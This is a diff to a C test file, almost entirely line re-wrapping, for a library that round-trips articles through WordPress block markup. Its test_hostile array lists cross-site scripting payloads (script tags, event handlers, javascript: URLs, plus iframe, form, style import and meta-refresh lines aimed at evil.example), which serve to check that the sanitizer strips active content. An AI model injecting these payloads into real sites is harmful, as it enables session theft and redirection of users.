@@ -1,5 +1,5 @@
-/* A story as a WordPress post and back: the same content hash from the blocks alone; what WordPress's own
- * editor made comes back unharmed. */
+/* A story as a WordPress post and back: the same content hash from the blocks alone; what
+ * WordPress's own editor made comes back unharmed. */
 #include "config.h"
 
 #include "article/blocks.h"
@@ -23,12 +23,14 @@ find_picture (const char *file, StetBlocksPicture *picture, gpointer data)
   return strlen (file) == 64;
 }
 
-static const StetBlocksWriting with = { .find_picture = find_picture, .state = STET_STATE_APPROVED, .state_hash = "abc" };
+static const StetBlocksWriting with
+    = { .find_picture = find_picture, .state = STET_STATE_APPROVED, .state_hash = "abc" };
 
 static int
 compare_labels (gconstpointer a, gconstpointer b)
 {
-  return strcmp (stet_term_label (*(StetTerm *const *) a), stet_term_label (*(StetTerm *const *) b));
+  return strcmp (stet_term_label (*(StetTerm *const *) a),
+                 stet_term_label (*(StetTerm *const *) b));
 }
 
 /* What the site gives back of it: terms by name, with ids. */
@@ -42,8 +44,10 @@ give_terms (const StetArticle *article, StetBlocksPost *post)
   for (guint i = 0; i < fields->tags->len; i++)
     g_ptr_array_add (post->tags, stet_term_new (stet_term_label (fields->tags->pdata[i]), "31"));
   g_ptr_array_sort (post->tags, compare_labels);
-  g_ptr_array_add (post->sections,
-                   stet_term_new (fields->section != NULL ? stet_term_label (fields->section) : "Uncategorized", "1"));
+  g_ptr_array_add (
+      post->sections,
+      stet_term_new (fields->section != NULL ? stet_term_label (fields->section) : "Uncategorized",
+                     "1"));
 }
 
 static StetArticle *
@@ -92,7 +96,8 @@ test_random (void)
       assert_same (article, back, content);
       g_assert_cmpstr (stet_article_id (back), ==, stet_article_id (article));
       for (guint b = 0; b < stet_article_n_blocks (article); b++)
-        g_assert_cmpstr (stet_block_id (stet_article_block (back, b)), ==, stet_block_id (stet_article_block (article, b)));
+        g_assert_cmpstr (stet_block_id (stet_article_block (back, b)), ==,
+                         stet_block_id (stet_article_block (article, b)));
     }
 }
 
@@ -126,7 +131,8 @@ test_sample (void)
 static void
 test_filter_stable (void)
 {
-  static const char *const never[] = { "<br>", "<br/>", "\"/>", "{} -->", "{} /-->", " & ", "&nbsp;", "<script" };
+  static const char *const never[]
+      = { "<br>", "<br/>", "\"/>", "{} -->", "{} /-->", " & ", "&nbsp;", "<script" };
   g_autoptr (StetRandom) random = stet_random_new_seeded (7);
 
   for (guint i = 0; i < ROUNDS / 4; i++)
@@ -143,43 +149,62 @@ test_filter_stable (void)
     }
 }
 
-/* Blocks of WordPress's own making: understood, or opaque; either way they are there again after. */
+/* Blocks of WordPress's own making: understood, or opaque; either way they are there again
+ * after. */
 static void
 test_native (void)
 {
-  static const struct { const char *markup; StetBlockType type; guint n; const char *why; } cases[] = {
-    { "<!-- wp:paragraph -->\n<p>One <b>two</b> <i>three</i></p>\n<!-- /wp:paragraph -->", STET_BLOCK_PARAGRAPH, 1, "b is strong" },
+  static const struct
+  {
+    const char *markup;
+    StetBlockType type;
+    guint n;
+    const char *why;
+  } cases[] = {
+    { "<!-- wp:paragraph -->\n<p>One <b>two</b> <i>three</i></p>\n<!-- /wp:paragraph -->",
+      STET_BLOCK_PARAGRAPH, 1, "b is strong" },
     { "<!-- wp:paragraph {\"align\":\"center\"} -->\n<p class=\"has-text-align-center\">x</p>\n<!-- /wp:paragraph -->",
       STET_BLOCK_OPAQUE, 1, "alignment" },
-    { "<!-- wp:paragraph -->\n<p>x <mark>y</mark></p>\n<!-- /wp:paragraph -->", STET_BLOCK_OPAQUE, 1, "a span of another kind" },
+    { "<!-- wp:paragraph -->\n<p>x <mark>y</mark></p>\n<!-- /wp:paragraph -->", STET_BLOCK_OPAQUE,
+      1, "a span of another kind" },
     { "<!-- wp:paragraph -->\n<p><a href=\"https://a.example\" target=\"_blank\" rel=\"noreferrer noopener\">y</a></p>\n"
-      "<!-- /wp:paragraph -->", STET_BLOCK_OPAQUE, 1, "a link to a new window" },
-    { "<!-- wp:heading -->\n<h2 class=\"wp-block-heading\">x</h2>\n<!-- /wp:heading -->", STET_BLOCK_HEADING, 1, "6.2 and later" },
-    { "<!-- wp:heading {\"level\":5} -->\n<h5>x</h5>\n<!-- /wp:heading -->", STET_BLOCK_OPAQUE, 1, "a level we have not" },
-    { "<!-- wp:list -->\n<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>\n<!-- /wp:list -->", STET_BLOCK_LIST_ITEM, 3, "5.x" },
+      "<!-- /wp:paragraph -->",
+      STET_BLOCK_OPAQUE, 1, "a link to a new window" },
+    { "<!-- wp:heading -->\n<h2 class=\"wp-block-heading\">x</h2>\n<!-- /wp:heading -->",
+      STET_BLOCK_HEADING, 1, "6.2 and later" },
+    { "<!-- wp:heading {\"level\":5} -->\n<h5>x</h5>\n<!-- /wp:heading -->", STET_BLOCK_OPAQUE, 1,
+      "a level we have not" },
+    { "<!-- wp:list -->\n<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>\n<!-- /wp:list -->",
+      STET_BLOCK_LIST_ITEM, 3, "5.x" },
     { "<!-- wp:list -->\n<ul><!-- wp:list-item -->\n<li>a<!-- wp:list {\"ordered\":true} -->\n<ol><!-- wp:list-item -->\n<li>b</li>\n"
       "<!-- /wp:list-item --></ol>\n<!-- /wp:list --></li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->",
       STET_BLOCK_LIST_ITEM, 2, "6.1" },
-    { "<!-- wp:list {\"ordered\":true,\"start\":3} -->\n<ol start=\"3\"><li>a</li></ol>\n<!-- /wp:list -->", STET_BLOCK_OPAQUE, 1,
-      "a list that starts at three" },
+    { "<!-- wp:list {\"ordered\":true,\"start\":3} -->\n<ol start=\"3\"><li>a</li></ol>\n<!-- /wp:list -->",
+      STET_BLOCK_OPAQUE, 1, "a list that starts at three" },
     { "<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\"><p>x</p><cite>y</cite></blockquote>\n<!-- /wp:quote -->",
       STET_BLOCK_QUOTE, 1, "5.x" },
     { "<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\"><!-- wp:paragraph -->\n<p>x</p>\n<!-- /wp:paragraph -->\n\n"
-      "<!-- wp:paragraph -->\n<p>y</p>\n<!-- /wp:paragraph --></blockquote>\n<!-- /wp:quote -->", STET_BLOCK_OPAQUE, 1, "two" },
+      "<!-- wp:paragraph -->\n<p>y</p>\n<!-- /wp:paragraph --></blockquote>\n<!-- /wp:quote -->",
+      STET_BLOCK_OPAQUE, 1, "two" },
     { "<!-- wp:table -->\n<figure class=\"wp-block-table\"><table><tbody><tr><td>a</td><td>b</td></tr></tbody></table></figure>\n"
-      "<!-- /wp:table -->", STET_BLOCK_TABLE, 1, "a table" },
+      "<!-- /wp:table -->",
+      STET_BLOCK_TABLE, 1, "a table" },
     { "<!-- wp:table -->\n<figure class=\"wp-block-table\"><table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody>"
-      "</table></figure>\n<!-- /wp:table -->", STET_BLOCK_OPAQUE, 1, "a head" },
+      "</table></figure>\n<!-- /wp:table -->",
+      STET_BLOCK_OPAQUE, 1, "a head" },
     { "<!-- wp:image {\"id\":5,\"sizeSlug\":\"full\",\"linkDestination\":\"none\"} -->\n<figure class=\"wp-block-image size-full\"><img "
       "src=\"https://n.example/a.png\" alt=\"b\" class=\"wp-image-5\"/><figcaption class=\"wp-element-caption\">c <strong>d</strong>"
-      "</figcaption></figure>\n<!-- /wp:image -->", STET_BLOCK_IMAGE, 1, "a picture" },
+      "</figcaption></figure>\n<!-- /wp:image -->",
+      STET_BLOCK_IMAGE, 1, "a picture" },
     { "<!-- wp:image {\"id\":5,\"width\":20,\"height\":30,\"sizeSlug\":\"full\"} -->\n<figure class=\"wp-block-image size-full "
       "is-resized\"><img src=\"https://n.example/a.png\" alt=\"\" class=\"wp-image-5\" width=\"20\" height=\"30\"/></figure>\n"
-      "<!-- /wp:image -->", STET_BLOCK_OPAQUE, 1, "resized" },
+      "<!-- /wp:image -->",
+      STET_BLOCK_OPAQUE, 1, "resized" },
     { "<!-- wp:separator -->\n<hr class=\"wp-block-separator has-alpha-channel-opacity\"/>\n<!-- /wp:separator -->",
       STET_BLOCK_OPAQUE, 1, "a rule" },
     { "<!-- wp:columns -->\n<div class=\"wp-block-columns\"><!-- wp:column -->\n<div class=\"wp-block-column\"><!-- wp:paragraph -->\n"
-      "<p>x</p>\n<!-- /wp:paragraph --></div>\n<!-- /wp:column --></div>\n<!-- /wp:columns -->", STET_BLOCK_OPAQUE, 1, "nested" },
+      "<p>x</p>\n<!-- /wp:paragraph --></div>\n<!-- /wp:column --></div>\n<!-- /wp:columns -->",
+      STET_BLOCK_OPAQUE, 1, "nested" },
     { "<!-- wp:latest-posts {\"postsToShow\":3} /-->", STET_BLOCK_OPAQUE, 1, "no end" },
     { "<!-- wp:embed {\"url\":\"https://v.example/?a=1\\u0026b=2\"} -->\n<figure class=\"wp-block-embed\"><div "
       "class=\"wp-block-embed__wrapper\">\nhttps://v.example/?a=1&amp;b=2\n</div></figure>\n<!-- /wp:embed -->",
@@ -210,17 +235,24 @@ test_native (void)
       g_assert_no_error (error);
       g_assert_cmpuint (second->len, ==, blocks->len);
       for (guint b = 0; b < blocks->len; b++)
-        g_assert_cmpint (stet_block_type (second->pdata[b]), ==, stet_block_type (blocks->pdata[b]));
+        g_assert_cmpint (stet_block_type (second->pdata[b]), ==,
+                         stet_block_type (blocks->pdata[b]));
     }
 }
 
-/* A post without a mark: opened, sent back, opened again; title and excerpt go back as they were. */
+/* A post without a mark: opened, sent back, opened again; title and excerpt go back as they
+ * were. */
 static void
 test_native_post (void)
 {
-  StetBlocksPost post = { .title = (char *) "The <em>bridge</em> &amp; co", .excerpt = (char *) "A &lt;b",
-                          .content = (char *) "First line\nsecond\n\n<h3>Part</h3>\n\n<div class=\"x\">kept</div>\n\nLast [gallery]",
-                          .slug = (char *) "bridge" };
+  StetBlocksPost post = {
+    .title = (char *) "The <em>bridge</em> &amp; co",
+    .excerpt = (char *) "A &lt;b",
+    .content
+    = (char
+           *) "First line\nsecond\n\n<h3>Part</h3>\n\n<div class=\"x\">kept</div>\n\nLast [gallery]",
+    .slug = (char *) "bridge"
+  };
   g_auto (StetBlocksPost) out = { NULL };
   g_auto (StetBlocksMark) mark = { 0 };
   g_autoptr (GError) error = NULL;
@@ -230,11 +262,13 @@ test_native_post (void)
   g_assert_no_error (error);
   g_assert_false (mark.found);
   g_assert_cmpstr (stet_article_id (article), ==, ID);
-  g_assert_cmpstr (stet_prose_text (stet_article_fields (article)->headline), ==, "The bridge & co");
+  g_assert_cmpstr (stet_prose_text (stet_article_fields (article)->headline), ==,
+                   "The bridge & co");
   g_assert_cmpstr (stet_prose_text (stet_article_fields (article)->dek), ==, "A <b");
   g_assert_cmpuint (stet_article_n_blocks (article), ==, 4);
   g_assert_cmpint (stet_block_type (stet_article_block (article, 0)), ==, STET_BLOCK_PARAGRAPH);
-  g_assert_cmpstr (stet_prose_text (stet_block_prose (stet_article_block (article, 0))), ==, "First line\nsecond");
+  g_assert_cmpstr (stet_prose_text (stet_block_prose (stet_article_block (article, 0))), ==,
+                   "First line\nsecond");
   g_assert_cmpint (stet_block_type (stet_article_block (article, 1)), ==, STET_BLOCK_HEADING);
   g_assert_cmpint (stet_block_type (stet_article_block (article, 2)), ==, STET_BLOCK_OPAQUE);
   stet_blocks_write (article, &with, &out);
@@ -272,17 +306,22 @@ test_ids (void)
   stet_blocks_write (article, &with, &post);
   content = g_string_new (post.content);
   g_string_replace (content, "Paragraph 1.", "Changed.", 0);
-  g_string_replace (content, "<!-- wp:paragraph -->\n<p>Paragraph 3.", "<!-- wp:paragraph -->\n<p>New.</p>\n<!-- /wp:paragraph -->\n\n"
-                    "<!-- wp:paragraph -->\n<p>Paragraph 3.", 1);
+  g_string_replace (content, "<!-- wp:paragraph -->\n<p>Paragraph 3.",
+                    "<!-- wp:paragraph -->\n<p>New.</p>\n<!-- /wp:paragraph -->\n\n"
+                    "<!-- wp:paragraph -->\n<p>Paragraph 3.",
+                    1);
   g_free (post.content);
   post.content = g_strdup (content->str);
   back = stet_blocks_read (&post, &how, NULL, &error);
   g_assert_no_error (error);
   g_assert_cmpuint (stet_article_n_blocks (back), ==, 5);
   for (guint i = 0; i < 3; i++)
-    g_assert_cmpstr (stet_block_id (stet_article_block (back, i)), ==, stet_block_id (stet_article_block (article, i)));
-  g_assert_cmpstr (stet_block_id (stet_article_block (back, 4)), ==, stet_block_id (stet_article_block (article, 3)));
-  g_assert_cmpstr (stet_block_id (stet_article_block (back, 3)), !=, stet_block_id (stet_article_block (article, 3)));
+    g_assert_cmpstr (stet_block_id (stet_article_block (back, i)), ==,
+                     stet_block_id (stet_article_block (article, i)));
+  g_assert_cmpstr (stet_block_id (stet_article_block (back, 4)), ==,
+                   stet_block_id (stet_article_block (article, 3)));
+  g_assert_cmpstr (stet_block_id (stet_article_block (back, 3)), !=,
+                   stet_block_id (stet_article_block (article, 3)));
 }
 
 static void
@@ -312,11 +351,25 @@ static void
 test_broken (void)
 {
   static const char *const cases[] = {
-    "", "<!-- wp:paragraph -->", "<!-- /wp:paragraph -->", "<!-- wp:paragraph -->\n<p>x</p>", "<!--", "<!-- wp:", "<!-- wp:x {",
-    "<!-- wp:a --><!-- wp:a --><!-- /wp:a -->", "<!-- wp:x {\"a\":} /-->", "<!-- wp:stet/article {\"data\":\"%7B\"} /-->",
-    "<!-- wp:stet/article {\"data\":\"%\"} /-->", "<!-- wp:stet/faq {\"data\":\"[]\"} --><section></section><!-- /wp:stet/faq -->",
-    "<!-- wp:stet/opaque {\"base64\":\"*\"} /-->", "<!-- wp:image --><!-- /wp:image -->", "<!-- wp:/ -->", "<!-->", "<!--->",
-    "<!-- wp:table --><table></table><!-- /wp:table -->", "<!-- wp:embed --><div></div><!-- /wp:embed -->",
+    "",
+    "<!-- wp:paragraph -->",
+    "<!-- /wp:paragraph -->",
+    "<!-- wp:paragraph -->\n<p>x</p>",
+    "<!--",
+    "<!-- wp:",
+    "<!-- wp:x {",
+    "<!-- wp:a --><!-- wp:a --><!-- /wp:a -->",
+    "<!-- wp:x {\"a\":} /-->",
+    "<!-- wp:stet/article {\"data\":\"%7B\"} /-->",
+    "<!-- wp:stet/article {\"data\":\"%\"} /-->",
+    "<!-- wp:stet/faq {\"data\":\"[]\"} --><section></section><!-- /wp:stet/faq -->",
+    "<!-- wp:stet/opaque {\"base64\":\"*\"} /-->",
+    "<!-- wp:image --><!-- /wp:image -->",
+    "<!-- wp:/ -->",
+    "<!-->",
+    "<!--->",
+    "<!-- wp:table --><table></table><!-- /wp:table -->",
+    "<!-- wp:embed --><div></div><!-- /wp:embed -->",
   };
   g_autoptr (GString) many = g_string_new (NULL);
   g_autoptr (GPtrArray) at_limit = NULL;
@@ -341,7 +394,8 @@ test_broken (void)
   g_assert_nonnull ((at_limit = stet_blocks_from_markup (many->str, &error)));
 }
 
-/* What a browser would act on: elements, handlers, addresses that are code. Looks at the markup alone. */
+/* What a browser would act on: elements, handlers, addresses that are code. Looks at the markup
+ * alone. */
 static gboolean
 is_active (const char *markup)
 {
@@ -370,18 +424,28 @@ hidden (const char *html)
   return g_strdup_printf ("<p>a</p><div class=\"opaque\" data-raw-base64=\"%s\"></div>", base64);
 }
 
-/* Whatever is pasted or imported: nothing that acts goes out under the name of an editor, whom no site filters. */
+/* Whatever is pasted or imported: nothing that acts goes out under the name of an editor, whom no
+ * site filters. */
 static void
 test_hostile (void)
 {
   static const char *const pieces[] = {
-    "<script>alert(1)</script>", "<p onclick=\"alert(1)\">x</p>", "<img src=x onerror=alert(1)>",
-    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" \x01java\nscript:alert(1)\">x</a>",
-    "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>", "<a href=\"vbscript:x\">x</a>",
-    "<svg onload=alert(1)></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
-    "<iframe src=\"https://evil.example/\"></iframe>", "<object data=\"x.swf\"></object>", "<embed src=\"x.swf\">",
-    "<style>@import 'https://evil.example/x.css';</style>", "<form action=\"https://evil.example/\"><input name=p></form>",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<base href=\"https://evil.example/\">",
+    "<script>alert(1)</script>",
+    "<p onclick=\"alert(1)\">x</p>",
+    "<img src=x onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\" \x01java\nscript:alert(1)\">x</a>",
+    "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
+    "<a href=\"vbscript:x\">x</a>",
+    "<svg onload=alert(1)></svg>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<iframe src=\"https://evil.example/\"></iframe>",
+    "<object data=\"x.swf\"></object>",
+    "<embed src=\"x.swf\">",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<form action=\"https://evil.example/\"><input name=p></form>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+    "<base href=\"https://evil.example/\">",
     "<figure><img src=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\"></figure>",
     "<!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html -->",
     "<!-- wp:paragraph --><p onmouseover=alert(1)>x</p><!-- /wp:paragraph -->",
